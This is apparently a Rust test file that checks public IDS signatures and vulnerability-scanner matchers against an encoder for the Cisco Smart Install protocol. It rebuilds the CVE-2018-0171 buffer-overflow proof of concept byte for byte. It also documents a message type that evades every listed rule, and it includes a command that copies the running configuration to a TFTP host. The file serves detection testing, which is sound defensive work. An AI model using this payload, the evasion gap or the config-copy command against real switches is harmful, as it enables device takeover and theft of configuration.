//! The public IDS signatures and scanner matchers of smart-install.md §3.2, §3.3 and §4.1,
//! applied to the bytes our encoder produces: if a rule fires on SIET traffic, it fires on our
//! encoding of the same message, and the documented gaps (execute with `w0 = 2`) stay gaps.

use super::*;

/// Whether `pattern` occurs within the first `depth` bytes of `bytes` starting at `offset`.
fn content(bytes: &[u8], offset: usize, depth: usize, pattern: &[u8]) -> bool {
    bytes
        .get(offset..(offset + depth).min(bytes.len()))
        .is_some_and(|window| window.windows(pattern.len()).any(|w| w == pattern))
}

/// Whether `pattern` occurs anywhere after `from`.
fn after(bytes: &[u8], from: usize, pattern: &[u8]) -> bool {
    bytes
        .get(from..)
        .is_some_and(|rest| rest.windows(pattern.len()).any(|w| w == pattern))
}

fn et_2025519(b: &[u8]) -> bool {
    content(b, 0, 8, &hex("00000001 00000001"))
}

fn et_2025520(b: &[u8]) -> bool {
    content(b, 0, 16, &hex("00000001 00000001 00000002 000001c4")) && after(b, 16, b"://")
}

fn et_2025521(b: &[u8]) -> bool {
    content(b, 0, 16, &hex("00000001 00000001 00000003 00000128")) && after(b, 16, b"://")
}

fn et_2025522(b: &[u8]) -> bool {
    content(b, 0, 16, &hex("00000001 00000001 00000008 00000408")) && after(b, 16, b"copy ")
}

fn et_2025472(b: &[u8]) -> bool {
    content(b, 0, 12, &hex("00000001 00000001 00000007"))
        && content(b, 24, 36, &[b'A'; 36])
        && content(b, 64, 44, &[b'B'; 44])
}

const TFTP: &[u8] = b"tftp://192.0.2.1/x";

fn encoded(body: Body) -> Vec<u8> {
    Message::new(body).encode().unwrap()
}

#[test]
fn et_rules_fire_on_our_siet_style_encodings() {
    let push = encoded(Body::ConfigPush(
        ConfigPush::new(TFTP, ReloadSchedule::at(0, 1).unwrap()).unwrap(),
    ));
    let upgrade = encoded(Body::ImageUpgrade(
        ImageUpgrade::new(TFTP, UpgradeTiming::Immediate).unwrap(),
    ));
    let copy = encoded(Body::CopyCommands(
        CopyCommands::new(&["copy system:running-config tftp://192.0.2.1/c"]).unwrap(),
    ));
    let probe = encoded(Body::Probe(Probe::HELLO));
    for bytes in [&push, &upgrade, &copy, &probe] {
        assert!(et_2025519(bytes));
    }
    assert!(et_2025520(&upgrade) && !et_2025520(&push));
    assert!(et_2025521(&push) && !et_2025521(&copy));
    assert!(et_2025522(&copy) && !et_2025522(&upgrade));
}

#[test]
fn execute_with_w0_2_matches_no_et_rule() {
    let execute = encoded(Body::Execute(Execute::new(TFTP).unwrap()));
    assert!(!et_2025519(&execute));
    assert!(!et_2025520(&execute));
    assert!(!et_2025521(&execute));
    assert!(!et_2025522(&execute));
}

#[test]
fn cve_2018_0171_poc_built_from_typed_values_matches_et_2025472() {
    let mut value = vec![b'A'; 36];
    value.extend_from_slice(&0x8d8_u32.to_be_bytes());
    value.extend_from_slice(&[b'B'; 176]);
    value.extend_from_slice(&[b'D'; 2048]);
    let poc = hex(&fixtures::poc_hex());

    // Framed by its header, the PoC is a consistent 232-byte message (TLV 1 declares 0xd8 bytes,
    // 208 follow) plus 2056 bytes after it.
    let (framed, rest) = value.split_at(208);
    let message = Message::new(Body::InitDiscovery(InitDiscovery {
        tlvs: Vec::new(),
        tail: Some(TlvTail::Overrun {
            tlv_type: 1,
            declared_len: 0xd8,
            value: framed.to_vec(),
        }),
    }));
    assert_eq!([message.encode().unwrap(), rest.to_vec()].concat(), poc);

    // Or: the whole 2272-byte payload with the header length forced to 0xd8.
    let payload = [&hex("00000001 000000d8")[..], &value].concat();
    let whole = Message::new(Body::InitDiscovery(InitDiscovery::from_payload(&payload)));
    let bytes = whole.danger_encode_with_declared_length(0xd8).unwrap();
    assert_eq!(bytes, poc);
    assert!(et_2025472(&bytes));
    assert!(et_2025519(&bytes));
    let legit = encoded(Body::InitDiscovery(InitDiscovery::new(vec![Tlv {
        tlv_type: 1,
        value: b"director".to_vec(),
    }])));
    assert!(!et_2025472(&legit));
}

#[test]
fn scanner_matchers_accept_our_replies() {
    // smi_check / SIET / Tsunami: exact 24 bytes; MSF / intrigue-ident: the anchored regex.
    let reply = encoded(Body::ProbeReply(ProbeReply::HELLO));
    assert_eq!(
        reply,
        hex("000000040000000000000003000000080000000100000000")
    );
    let msf = [
        &[0u8; 3][..],
        &[4],
        &[0; 7],
        &[3],
        &[0; 3],
        &[8],
        &[0; 3],
        &[1],
        &[0; 4],
    ]
    .concat();
    assert_eq!(reply, msf);
    // Greenbone: exactly ^0000000400000000000000040000000400000001$.
    let status = encoded(Body::ProbeReply(ProbeReply::STATUS));
    assert_eq!(
        ::hex::encode(&status),
        "0000000400000000000000040000000400000001"
    );
    // smi_check's probe.
    let probe = encoded(Body::Probe(Probe::HELLO));
    assert_eq!(
        ::hex::encode(&probe),
        "000000010000000100000004000000080000000100000000"
    );
}
